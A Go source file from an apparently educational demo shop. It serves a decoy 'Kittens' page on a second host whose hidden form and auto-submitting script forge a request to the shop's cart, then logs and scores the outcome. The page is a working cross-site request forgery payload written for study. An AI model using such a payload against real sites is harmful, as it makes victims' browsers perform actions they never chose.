package shop

import (
	"bytes"
	"crypto/rand"
	"errors"
	"fmt"
	"html/template"
	"net/http"
	"net/url"
	"strings"
	"sync"
)

// witnesses remember what came of the requests of the other site's page. They are told
// apart by the parameter "attack", which the shop itself does not read.
type witnesses struct {
	mu    sync.Mutex
	byID  map[string]*witness
	queue []string // oldest first
}

// witness is one visit of the other site.
type witness struct {
	before int // pieces in the visitor's cart
	seen   []exchange
}

const (
	maxWitnesses = 100
	maxSeen      = 6 // requests of one visit
)

func (ws *witnesses) begin(before int) (id string) {
	ws.mu.Lock()
	defer ws.mu.Unlock()
	if ws.byID == nil {
		ws.byID = make(map[string]*witness)
	}
	id = rand.Text()
	ws.byID[id] = &witness{before: before}
	if ws.queue = append(ws.queue, id); len(ws.queue) > maxWitnesses {
		delete(ws.byID, ws.queue[0])
		ws.queue = ws.queue[1:]
	}
	return id
}

// note keeps a request at the cart that names a witness, as it came, and its status.
func (ws *witnesses) note(r *http.Request, status int) {
	if r.URL.Path != "/cart" || !r.URL.Query().Has("attack") {
		return
	}
	ws.mu.Lock()
	defer ws.mu.Unlock()
	w := ws.byID[r.URL.Query().Get("attack")]
	if w == nil || len(w.seen) == maxSeen {
		return
	}
	shown := []string{r.Method + " /cart?item=lantern HTTP/1.1", "Host: " + r.Host}
	for _, name := range []string{"Origin", "Sec-Fetch-Site", "Sec-Fetch-Dest"} {
		if value := r.Header.Get(name); value != "" {
			shown = append(shown, name+": "+value[:min(len(value), 100)])
		}
	}
	cookies := "(no cookie)"
	if n := len(r.Cookies()); n > 0 {
		cookies = fmt.Sprintf("Cookie: (%d)", n)
	}
	w.seen = append(w.seen, exchange{Request: strings.Join(append(shown, cookies), "\n"), Answer: statusLine(status), status: status})
}

func (ws *witnesses) find(id string) (witness, bool) {
	ws.mu.Lock()
	defer ws.mu.Unlock()
	if w := ws.byID[id]; w != nil {
		return *w, true
	}
	return witness{}, false
}

// otherSite finds the other site's address.
func otherSite(base *url.URL, given string) (*url.URL, error) {
	if given != "" {
		other, err := url.Parse(given)
		if err != nil || other.Host == "" || other.Host == base.Host {
			return nil, fmt.Errorf("shop: OtherSite %q must be the URL of another site", given)
		}
		return other, nil
	}
	host, swapped := base.Hostname(), map[string]string{"localhost": "127.0.0.1", "127.0.0.1": "localhost"}
	if swapped[host] == "" {
		return nil, nil
	}
	return &url.URL{Scheme: base.Scheme, Host: strings.Replace(base.Host, host, swapped[host], 1)}, nil
}

// elsewhere serves the other site, where a request is for that, and the shop.
func (s *Shop) elsewhere(shop http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if s.other != nil && strings.EqualFold(r.Host, s.other.Host) {
			s.kittens(w, r)
			return
		}
		shop.ServeHTTP(w, r)
	})
}

// The page of the other site. Its script does by itself what the button would.
var kittenPage = sync.OnceValue(func() *template.Template {
	return template.Must(template.New("kittens").Parse(`<!doctype html>
<html lang="en">
<meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Kittens, kittens, kittens</title>
<body style="font: 18px/1.6 ui-rounded, system-ui, sans-serif; background: #ffe9f1; color: #4a1030; max-width: 34rem; margin: 3rem auto; padding: 0 1.25rem">
<h1>Kittens, kittens, kittens</h1>
<p>This is another site, {{.Here}}. It looks harmless. Its image is <code>{{.Target}}</code>, and a hidden form goes to the same address.</p>
<p><img src="{{.Target}}" alt="a kitten, or so it says" width="240" height="120" style="background: #f7c4d8; border-radius: 12px"></p>
<form method="post" action="{{.Target}}" target="nowhere"><input type="hidden" name="item" value="lantern"><button style="font: inherit; padding: .5rem 1rem">Stroke the kitten</button></form>
<iframe name="nowhere" title="nowhere" hidden></iframe>
<p><a id="back" style="color: inherit" href="{{.Back}}">Go back to the shop, and see what came of it</a></p>
<script>
addEventListener("load", () => {
  const frame = document.querySelector("iframe");
  const back = () => { location = document.getElementById("back").href };
  document.querySelector("form").submit();
  frame.addEventListener("load", back);
  setTimeout(back, 3000);
});
</script>
`))
})

// kittens is the other site: one page, and nothing of the shop.
func (s *Shop) kittens(w http.ResponseWriter, r *http.Request) {
	id := r.URL.Query().Get("attack")
	if _, known := s.seen.find(id); r.Method != http.MethodGet || r.URL.Path != "/kittens" || !known {
		http.Error(w, "Another site. The shop is at "+s.base.Scheme+"://"+s.base.Host, http.StatusNotFound)
		return
	}
	shop := s.base.Scheme + "://" + s.base.Host
	var out bytes.Buffer
	err := kittenPage().Execute(&out, map[string]string{
		"Here": s.other.Host, "Target": shop + "/cart?item=lantern&attack=" + id, "Back": shop + "/attacks/image?attack=" + id,
	})
	if err != nil {
		s.log.Error("page not drawn", "page", "kittens", "error", err)
		http.Error(w, "Something went wrong on our side.", http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	w.Header().Set("Cache-Control", "no-store")
	out.WriteTo(w) // the status is out: nothing to do on failure
}

// beginImage sends the visitor to the other site.
func (s *Shop) beginImage(w http.ResponseWriter, r *http.Request) {
	id := s.seen.begin(s.pieces(r))
	http.Redirect(w, r, s.other.Scheme+"://"+s.other.Host+"/kittens?attack="+id, http.StatusSeeOther)
}

func (s *Shop) pieces(r *http.Request) int {
	cart, _ := s.carts.read(r, s.owner(r))
	_, _, pieces := lines(cart.Items)
	return pieces
}

var errSeenNothing = errors.New("shop: attack: no request of the other site has arrived")

// afterImage tells what came of the visit.
func (s *Shop) afterImage(w http.ResponseWriter, r *http.Request) {
	visit, known := s.seen.find(r.URL.Query().Get("attack"))
	a, _ := attackByName("image")
	if !known {
		http.Redirect(w, r, "/attacks", http.StatusSeeOther)
		return
	}
	after := s.pieces(r)
	o := outcome{
		attack: visit.seen, won: after > visit.before,
		reason: fmt.Sprintf("Your cart had %d pieces before the visit, and has %d now.", visit.before, after),
	}
	t := s.thief(r)
	err := t.fill(r.Context(), "lantern")
	if err == nil && len(visit.seen) == 0 {
		err = errSeenNothing
	}
	if err == nil {
		var honest exchange
		honest, err = t.present(r.Context(), t.cart())
		o.twin, o.fair = []exchange{honest}, honest.pieces() == 1
	}
	s.tell(w, r, a, o, err)
}
